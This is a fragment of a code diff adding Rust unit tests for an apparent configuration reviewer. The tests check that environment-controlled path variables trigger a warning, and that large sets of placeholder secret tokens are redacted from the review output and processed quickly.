+            let settings = server(&format!("env: {{{name}: '${{X:-/opt}}:/bin'}}")).settings;
+            let text = format!("the environment or `.env` decides about {name}, which can choose what runs");
+            assert_eq!(settings, [("warning".to_owned(), text)]);
+            assert!(server(&format!("env: {{{name}: /bin}}")).settings.is_empty());
+        }
+        assert_eq!(server("cwd: '${X}'").settings.len(), 1);
+        assert!(server("env: {LEVEL: '${X}'}").settings.is_empty());
+    }
+
+    #[test]
+    fn many_secrets_and_references_are_reviewed_quickly() {
+        let start = std::time::Instant::now();
+        let secrets: String = (0..3000).map(|number| format!("--token=secret-{number},")).collect();
+        let references: Vec<Reference> = (0..60_000).map(|name| Reference::Variable(name.to_string())).collect();
+        let review = reviewed(&format!("servers: [{{alias: a, command: x, args: [{secrets}]}}]"));
+        assert!(!format!("{review:?}").contains("secret-"));
+        assert_eq!(unique([references.clone(), references.clone()].concat()), references);
+        assert!(start.elapsed() < std::time::Duration::from_secs(20), "{:?}", start.elapsed());
     }
 
     #[test]
